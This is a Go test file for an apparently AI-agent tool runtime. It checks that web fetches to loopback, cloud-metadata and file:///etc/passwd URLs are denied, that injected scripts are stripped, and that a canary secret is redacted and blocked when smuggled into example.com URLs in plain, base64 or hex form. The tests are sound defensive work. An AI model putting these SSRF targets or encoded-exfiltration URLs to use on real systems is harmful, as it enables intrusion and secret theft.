package app

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/homard/homard/internal/config"
	"github.com/homard/homard/internal/sandbox"
	"github.com/homard/homard/internal/secrets"
	"github.com/homard/homard/internal/store/storetest"
)

// newWebRuntime opens a home whose egress allows exactly the TLS test
// server, and trusts that server's certificate.
func newWebRuntime(t *testing.T, srv *httptest.Server) *Runtime {
	t.Helper()
	home := t.TempDir()
	paths, err := config.ResolvePaths(home, func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Init(context.Background(), paths, config.InitOptions{StoreURL: storetest.URL(t), Mode: "yolo"}); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(paths.ConfigFile)
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	i := strings.Index(s, "[egress]")
	s = s[:i] + strings.Replace(s[i:], "allow = []", fmt.Sprintf("allow = [%q]", srv.URL), 1)
	s = strings.Replace(s, "https://www.bing.com/search?format=rss&q={query}", srv.URL+"/rss?q={query}", 1)
	if err := os.WriteFile(paths.ConfigFile, []byte(s), 0o600); err != nil {
		t.Fatal(err)
	}
	r, err := Open(context.Background(), paths, Options{EgressTLS: srv.Client().Transport.(*http.Transport).TLSClientConfig})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close() })
	return r
}

const webCanary = "zebraWEBCANARY0123456789"

func newTestServer(t *testing.T) *httptest.Server {
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("a request reached a loopback server that is not allowed: %s", r.URL)
	}))
	t.Cleanup(other.Close)
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><script>steal()</script><p>Oolong is a <b>tea</b>.</p></html>")
	})
	mux.HandleFunc("/to-local", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, other.URL+"/x", http.StatusFound)
	})
	mux.HandleFunc("/to-metadata", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://169.254.169.254/latest/meta-data/", http.StatusFound)
	})
	mux.HandleFunc("/whoami", func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "you sent: "+r.Header.Get("X-Api-Key"))
	})
	mux.HandleFunc("/rss", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		fmt.Fprintf(w, `<?xml version="1.0"?><rss><channel>
<item><title>Oolong</title><link>https://tea.example/oolong</link><pubDate>Mon, 30 Nov 2026 10:00:00 GMT</pubDate><description>About &lt;b&gt;oolong&lt;/b&gt; (%s)</description></item>
<item><title>Two</title><link>https://tea.example/2</link><description>second</description></item>
</channel></rss>`, r.URL.Query().Get("q"))
	})
	srv := httptest.NewTLSServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

func TestWebToolsThroughThePipeline(t *testing.T) {
	srv := newTestServer(t)
	r := newWebRuntime(t, srv)

	out := call(t, r, CallRequest{Tool: "http_get", Args: fmt.Sprintf(`{"url":%q}`, srv.URL+"/page")})
	wantDecision(t, out, "ran", "mode.yolo")
	if !strings.Contains(out.Result.Text, "Oolong is a tea.") || strings.Contains(out.Result.Text, "steal") || !out.Result.Untrusted {
		t.Fatalf("http_get result %+v; want readable, untrusted text without scripts", out.Result)
	}
	for _, path := range []string{"/to-local", "/to-metadata"} {
		out := call(t, r, CallRequest{Tool: "http_get", Args: fmt.Sprintf(`{"url":%q}`, srv.URL+path)})
		if string(out.Decision) != "error" || !strings.Contains(out.Result.Text, "fetch failed") {
			t.Errorf("redirect %s: %s %+v; want a refused fetch", path, out.Decision, out.Result)
		}
	}
	for _, u := range []string{"http://127.0.0.1:1/", "https://169.254.169.254/", "https://2130706433/", "https://[::ffff:127.0.0.1]/", "file:///etc/passwd"} {
		out := call(t, r, CallRequest{Tool: "http_get", Args: fmt.Sprintf(`{"url":%q}`, u)})
		wantDecision(t, out, "denied", "limit.egress")
	}

	// A session of its own: after the denials above, the session "cli"
	// would ask first (monitor.denied-repeat, TestScenarioMonitorDeniedRepeat).
	out = call(t, r, CallRequest{Tool: "web_search", Args: `{"query":"oolong tea","count":1}`, Session: "search"})
	wantDecision(t, out, "ran", "mode.yolo")
	if !strings.Contains(out.Result.Text, "1. Oolong") || !strings.Contains(out.Result.Text, "https://tea.example/oolong") || strings.Contains(out.Result.Text, "2. Two") {
		t.Fatalf("web_search result %q", out.Result.Text)
	}
}

// TestSecretHostileSequence: read a canary through a command, put it in a
// URL, ask for the secret on a host it is not bound to — the canary ends
// up nowhere but the vault, and it is used only for its own host.
func TestSecretHostileSequence(t *testing.T) {
	srv := newTestServer(t)
	home := newWebRuntime(t, srv)
	host := strings.TrimPrefix(srv.URL, "https://")
	if err := home.Owner.SecretSet(secrets.Secret{Name: "api", Hosts: []string{host}, Header: "X-Api-Key", Format: "{}"}, []byte(webCanary)); err != nil {
		t.Fatal(err)
	}
	home.Close()
	r, err := Open(context.Background(), home.Paths, Options{EgressTLS: srv.Client().Transport.(*http.Transport).TLSClientConfig})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()

	// The bound host gets the key; what it echoes back is redacted.
	out := call(t, r, CallRequest{Tool: "http_get", Args: fmt.Sprintf(`{"url":%q,"auth":"api"}`, srv.URL+"/whoami")})
	wantDecision(t, out, "ran", "mode.yolo")
	if !strings.Contains(out.Result.Text, "you sent: [REDACTED:known-secret]") || strings.Contains(out.Result.Text, webCanary) {
		t.Fatalf("result %q; want the key to have been sent and its echo redacted", out.Result.Text)
	}
	if !strings.Contains(out.Plan, "with secret api") || strings.Contains(out.Plan, webCanary) {
		t.Fatalf("plan %q", out.Plan)
	}
	// Read the canary through a command: redacted.
	writeWorkspaceFile(t, r, "k.txt", webCanary+"\n")
	if _, err := exec.LookPath("cat"); err == nil {
		if _, err := sandbox.Select(r.Config.Sandbox.Backend); err == nil {
			out = call(t, r, CallRequest{Tool: "run_command", Args: `{"program":"cat","args":["k.txt"]}`})
			wantDecision(t, out, "ran", "mode.")
			if strings.Contains(out.Result.Text, webCanary) {
				t.Fatalf("command output not redacted: %q", out.Result.Text)
			}
		}
	}
	// Put it in a URL: denied as exfiltration, in any encoding.
	for _, u := range []string{
		"https://example.com/?k=" + webCanary,
		"https://example.com/?k=" + base64.StdEncoding.EncodeToString([]byte(webCanary)),
		"https://example.com/" + hex.EncodeToString([]byte(webCanary)),
	} {
		out = call(t, r, CallRequest{Tool: "http_get", Args: fmt.Sprintf(`{"url":%q}`, u)})
		wantDecision(t, out, "denied", "limit.secret-in-args")
	}
	// Ask for the secret on a host it is not bound to.
	out = call(t, r, CallRequest{Tool: "http_get", Args: `{"url":"https://example.com/","auth":"api"}`})
	wantDecision(t, out, "denied", "limit.secret-host")

	recs, err := r.Owner.AuditTail(context.Background(), 1000)
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		if strings.Contains(rec.Args+rec.Reason, webCanary) {
			t.Fatalf("audit record %d holds the canary", rec.Seq)
		}
	}
	r.Close()
	for _, suffix := range []string{"", "-wal"} {
		b, _ := os.ReadFile(r.Paths.DBFile + suffix)
		for _, enc := range []string{webCanary, base64.StdEncoding.EncodeToString([]byte(webCanary)), hex.EncodeToString([]byte(webCanary))} {
			if strings.Contains(string(b), enc) {
				t.Fatalf("the database%s holds the canary (%s)", suffix, enc)
			}
		}
	}
}
